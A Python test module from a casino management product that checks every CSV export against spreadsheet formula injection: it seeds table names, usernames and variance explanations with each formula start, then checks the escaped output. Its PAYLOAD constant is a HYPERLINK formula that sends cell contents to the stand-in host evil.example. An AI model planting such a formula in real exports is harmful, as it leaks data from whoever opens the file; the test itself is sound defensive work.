"""No CSV the product writes carries a formula (issue 35 item 4, OWASP's CSV injection
rule): every export, found by walking the URL patterns, downloaded with each of the six
formula starts in the fields people fill, parsed back neutral.

How an export is found, so that a new one without the escape fails here:

* only :mod:`casino.domain.spreadsheet` imports the csv module, and only
  :mod:`casino.api.downloads` names the ``text/csv`` media type (no other writer of a
  spreadsheet: no ``openpyxl``, ``xlsxwriter`` or ``odf``);
* every view that calls ``csv_download`` is an export; :data:`EXPORTS` must name each,
  and each is downloaded below.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from casino.domain.spreadsheet import FORMULA_STARTS
from casino.eventstore import projections
from finance import reports
from finance.models import FinanceException
from finance.services import drop, exceptions, tray
from finance.services.close import gaming_day_close
from jackpots.models import Fund
from tables.domain.rules_options import example_options
from tables.services import tables
from tests.finance.test_tray import OPENER
from tests.jackpots._hands import play_hand, seat_three
from tests.poker_room.conftest import as_actor, poker_table  # noqa: F401  fixtures
from tests.tables.conftest import (  # noqa: F401  fixtures
    crew,
    open_table,
    put_rules_in_effect,
    staff,
)

ROOT = Path(__file__).resolve().parents[2]
#: the product's packages (tests and migrations aside)
PRODUCT = ("casino", "console", "finance", "jackpots", "poker_floor", "poker_room",
           "tables", "faultlab")
#: the module that writes CSV text, and the one that sends it
WRITER, SENDER = "casino/domain/spreadsheet.py", "casino/api/downloads.py"

#: every export by its URL's name: its download URLs for a gaming day ``day`` and the
#: property's jackpot funds ``funds`` (every finance report by the registry's names)
EXPORTS: dict[str, Callable[[str, list[str]], list[str]]] = {
    "finance-report": lambda day, funds: [
        f"/api/v1/finance/reports/{name}/?first={day}&last={day}&as=csv"
        for name in reports.names()],
    "jackpot-report": lambda day, funds: [
        f"/api/v1/jackpot-funds/{fund}/report/?first={day}&last={day}{by}&as=csv"
        for fund in funds for by in ("", "&by=period")],
}

#: what a person types, after each start
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2,"Click")'
#: the Bad Beat fund as compliance named it in the Hold'em table's Rules Submission
FUND = "-2-1"  # a spreadsheet would compute -3


def _sources() -> Iterator[tuple[str, str]]:
    for package in PRODUCT:
        for path in sorted((ROOT / package).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), path.read_text()


def test_one_module_writes_csv_and_one_sends_it() -> None:
    writers = {name for name, text in _sources()
               if re.search(r"^\s*(import csv\b|from csv import)", text, re.M)}
    senders = {name for name, text in _sources() if "text/csv" in text}
    other_formats = {name for name, text in _sources()
                     if re.search(r"^\s*(import|from) (openpyxl|xlsxwriter|odf)\b", text, re.M)}
    assert (writers, senders, other_formats) == ({WRITER}, {SENDER}, set())


def _views() -> Iterator[tuple[str | None, Any]]:
    def walk(patterns: list[Any]) -> Iterator[tuple[str | None, Any]]:
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns)
            elif isinstance(p, URLPattern):
                view = p.callback
                yield p.name, getattr(view, "cls", None) or getattr(view, "view_class", view)
    yield from walk(get_resolver().url_patterns)


def _source(obj: Any) -> str:
    try:
        return inspect.getsource(obj)
    except (OSError, TypeError):  # a built-in or generated callable: no source to read
        return ""


def test_every_view_that_answers_a_csv_is_an_export_checked_here() -> None:
    """The views whose code calls ``csv_download``, by URL name, are the exports this
    module downloads; and no module calls it outside those views (a helper in between
    would hide an export from the walk)."""
    found = {name: view for name, view in _views() if "csv_download(" in _source(view)}
    assert set(found) == set(EXPORTS)
    files = {inspect.getsourcefile(view) for view in found.values()}
    callers = {str(ROOT / name) for name, text in _sources()
               if "csv_download(" in text and name != SENDER}
    assert callers == {str(Path(f).resolve()) for f in files}


# --- every export downloaded with each start ------------------------------------------

@pytest.fixture
def poisoned_day(crew: dict[str, Any], staff: Callable, put_rules_in_effect: Callable,
                 poker_table: Callable, as_actor: Callable,
                 request: pytest.FixtureRequest) -> dict[str, Any]:
    """Yesterday at a Five Card Hi-Lo table named by a person ``<start>HYPERLINK…``: the
    tray $100.00 short, found at the day's close, explained in those words by a finance
    login named ``<start>explainer`` and signed off by a compliance login named
    ``<start>signer``; a Hold'em hand paying into the jackpot funds, the Bad Beat fund
    named :data:`FUND` by compliance."""
    start = request.param
    put_rules_in_effect("five-card-hi-lo")
    table = tables.table_configure(actor=crew["admin"], name=(start + PAYLOAD)[:40],
                                   game="five-card-hi-lo", positions=5,
                                   dealing_method="automated-shoe", shuffler="automated")
    tables.table_assign_dealer(actor=crew["floor"], table_id=table.pk,
                               dealer=crew["dealer"].username)
    table = tables.table_open(actor=crew["floor"], table_id=table.pk)
    # a fund is named by letters, digits, - and _ (the Rules' option): "-" is the one
    # formula start its name can take
    bad_beat = {**example_options("holdem")["bad_beat"], "fund": FUND}
    holdem = poker_table("holdem", bad_beat=bad_beat)["table"]
    seat_three(as_actor(crew["dealer"]), holdem)
    play_hand(as_actor(crew["dealer"]), holdem)  # a fund exists once a hand pays into it
    team = {**crew, "runner": crew["security"], "counter": staff("count_team"),
            "counter2": staff("count_team"), "cashier": staff("cashier"),
            "finance": staff("finance", username=f"{start}explainer"),
            "signer": staff("compliance", username=f"{start}signer")}
    day = (team["dealer"].gaming_day() - timedelta(days=1)).isoformat()
    for slip, pieces in (("opener", OPENER), ("closer", {"2500": 40, "500": 80})):
        tray.inventory_record(actor=team["dealer"], table_id=table.pk, slip=slip,
                              pieces=pieces, gaming_day=day)
        tray.inventory_sign(actor=team["floor"], table_id=table.pk, slip=slip, gaming_day=day)
    drop.drop_remove(actor=team["runner"], table_id=table.pk, gaming_day=day)
    drop.drop_count(actor=team["counter"], table_id=table.pk, cash={}, gaming_day=day)
    drop.drop_count_sign(actor=team["counter2"], table_id=table.pk, gaming_day=day)
    drop.drop_accept(actor=team["cashier"], table_id=table.pk, gaming_day=day)
    gaming_day_close(actor=team["finance"], gaming_day=day)
    short = FinanceException.objects.get()
    exceptions.variance_explain(actor=team["finance"], exception_id=short.exception_id,
                                explanation=start + PAYLOAD)
    exceptions.variance_sign_off(actor=team["signer"], exception_id=short.exception_id)
    projections.catch_up("jackpot_funds")
    funds = sorted(Fund.objects.values_list("name", flat=True))
    return {"day": day, "funds": funds, "start": start}


def _download(client: Any, url: str) -> list[list[Any]]:
    r = client.get(url)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv"), url
    text = r.content.decode()
    # read as the writer wrote it: a bare cell must be a number (the reader makes it a
    # float, and refuses anything else), every other cell is quoted text
    return list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))


@pytest.mark.django_db
@pytest.mark.parametrize("poisoned_day", list(FORMULA_STARTS), indirect=True,
                         ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_every_export_writes_what_people_typed_as_text_no_spreadsheet_runs(
        poisoned_day: dict[str, Any], api_as: Callable) -> None:
    """Every download of every export: no text cell begins with a formula start, and
    the people's words are there, behind a single quote where they began with one (the
    product strips a leading tab or carriage return from a name as it takes it; then
    the words begin with the payload). The explanation, the two names and the table's
    name reach the exception report; the table's name every finance report of the day."""
    client = api_as("finance", "compliance")
    assert poisoned_day["funds"], "the Hold'em table's rules name its jackpot funds"
    start = poisoned_day["start"]
    seen: dict[str, list[str]] = {}
    for name, urls in EXPORTS.items():
        for url in urls(poisoned_day["day"], poisoned_day["funds"]):
            rows = _download(client, url)
            text = [c for row in rows for c in row if isinstance(c, str)]
            assert [c for c in text if c.startswith(FORMULA_STARTS)] == [], url
            seen[url] = [c for c in text if "HYPERLINK" in c or FUND in c
                         or c.endswith(("explainer", "signer"))]
    exception_report = next(v for k, v in seen.items() if "/exceptions/" in k)
    typed, named = start + PAYLOAD, (start + PAYLOAD)[:40]
    if start in "\t\r":  # taken stripped: the words begin with the payload
        explanation, table, by = PAYLOAD, named[1:], {"explainer", "signer"}
    else:
        explanation, table = "'" + typed, "'" + named
        by = {"'" + start + "explainer", "'" + start + "signer"}
    assert explanation in exception_report
    assert table in exception_report
    assert {c for c in exception_report if c.endswith(("explainer", "signer"))} == by
    for url, cells in seen.items():
        if re.search(r"/finance/reports/(master-game|statistical|exceptions)/", url):
            assert table in cells, url
    assert "'" + FUND in next(v for k, v in seen.items() if "/jackpot-funds/?" in k)
